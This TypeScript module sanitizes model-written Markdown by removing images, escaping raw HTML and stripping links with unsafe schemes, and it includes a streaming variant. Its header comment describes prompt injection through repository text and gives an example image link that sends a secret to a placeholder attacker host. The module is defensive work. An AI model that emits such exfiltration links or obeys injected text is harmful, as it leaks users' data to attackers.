/**
 * @module worker/generation/safe-markdown
 *
 * Neutralizes what a Markdown renderer would do on its own with model-written text: fetch an
 * image, run raw HTML, follow a `javascript:` link. Answers and review findings are written by
 * a model that read repository text, which an attacker may control (prompt injection), and
 * consumers render them as Markdown (the PR review posts them to GitHub verbatim): an injected
 * `![x](https://attacker/?q=<secret>)` would leak data the moment it is displayed.
 *
 * The text is parsed with mdast-util-from-markdown (CommonMark + GFM, as GitHub renders it), and
 * only the source spans of dangerous nodes are rewritten, so everything else (code spans and
 * blocks, citations `[E1 path:1-2]`, ordinary links) stays byte for byte:
 * - images (`![alt](url)`, `![alt][ref]`) become `(image removed: alt)`;
 * - raw HTML (inline or block) has its `<` written as `&lt;`, so it shows as text;
 * - links and link definitions whose URL has a scheme other than http, https or mailto
 *   (`javascript:`, `data:`, `vbscript:`, ...) keep their text, lose their target, and say
 *   `(link removed)`. Relative and `#` links are kept.
 * Pure.
 */
import type { Nodes, Parents } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";
import { gfmFromMarkdown } from "mdast-util-gfm";
import { gfm } from "micromark-extension-gfm";

/** URL schemes a link may keep. */
const SAFE_SCHEMES = new Set(["http", "https", "mailto"]);

/** Whether a link target is safe to keep: relative, or a scheme in `SAFE_SCHEMES`. */
export function isSafeLinkUrl(url: string): boolean {
  // Browsers drop whitespace and control characters inside a scheme ("java\tscript:").
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(url.replace(/[\u0000-\u0020\u007f]/g, ""));
  return !scheme || SAFE_SCHEMES.has(scheme[1]!.toLowerCase());
}

type Edit = { start: number; end: number; text: string };

function span(node: Nodes): { start: number; end: number } | null {
  const s = node.position?.start.offset;
  const e = node.position?.end.offset;
  return s === undefined || e === undefined ? null : { start: s, end: e };
}

/** Alt text reduced to letters, digits and plain punctuation (no Markdown or HTML syntax). */
function plainAlt(alt: string | null | undefined): string {
  return (alt ?? "")
    .replace(/<[^>]*>/g, "")
    .replace(/[^\p{L}\p{N} .,:;'"/-]/gu, "")
    .trim()
    .slice(0, 100);
}

function collect(node: Nodes, source: string, edits: Edit[]): void {
  const at = span(node);
  if (at) {
    switch (node.type) {
      case "image":
      case "imageReference": {
        const alt = plainAlt(node.alt);
        edits.push({ ...at, text: alt ? `(image removed: ${alt})` : "(image removed)" });
        return;
      }
      case "html":
        edits.push({ ...at, text: source.slice(at.start, at.end).replace(/</g, "&lt;") });
        return;
      case "definition":
        if (!isSafeLinkUrl(node.url)) edits.push({ ...at, text: "" });
        return;
      case "link":
        if (!isSafeLinkUrl(node.url)) {
          const first = node.children[0] ? span(node.children[0]) : null;
          const last = node.children.at(-1) ? span(node.children.at(-1)!) : null;
          if (!first || !last) {
            edits.push({ ...at, text: "(link removed)" });
            return;
          }
          // Keep the link's text (its children are checked below); drop `[`, `](url)`, or `<` `>`.
          edits.push({ start: at.start, end: first.start, text: "" }, { start: last.end, end: at.end, text: " (link removed)" });
        }
        break;
    }
  }
  if ("children" in node) for (const child of (node as Parents).children) collect(child, source, edits);
}

/**
 * `markdown` with images, raw HTML and unsafe links neutralized (see the module note); the
 * rest unchanged. Text without `<`, `!` or `]` cannot hold any of them and is returned as is.
 * @example neutralizeMarkdown("See ![x](http://a/?q=1) `<b>`") // "See (image removed: x) `<b>`"
 */
export function neutralizeMarkdown(markdown: string): string {
  if (!/[<!\]]/.test(markdown)) return markdown;
  const tree = fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] });
  const edits: Edit[] = [];
  collect(tree, markdown, edits);
  let out = markdown;
  for (const e of edits.sort((a, b) => b.start - a.start)) out = out.slice(0, e.start) + e.text + out.slice(e.end);
  return out;
}

/**
 * A streamed draft kept neutralized: `push` takes the next raw delta and returns what to send.
 * Usually the new text (`reset: false`); when neutralizing changed text already sent (an image
 * or tag was just completed), `reset: true` with the whole neutralized draft, which the client
 * shows instead of what it had. An incomplete construct (`![x](http://a`) renders as text.
 */
export class SafeDraft {
  #raw = "";
  #sent = "";

  /** Adds `delta` to the draft; returns the text to send and whether it replaces the draft. */
  push(delta: string): { reset: boolean; text: string } {
    this.#raw += delta;
    const safe = neutralizeMarkdown(this.#raw);
    const reset = !safe.startsWith(this.#sent);
    const text = reset ? safe : safe.slice(this.#sent.length);
    this.#sent = safe;
    return { reset, text };
  }

  /** Starts over (the model's answer restarted). */
  clear(): void {
    this.#raw = "";
    this.#sent = "";
  }
}
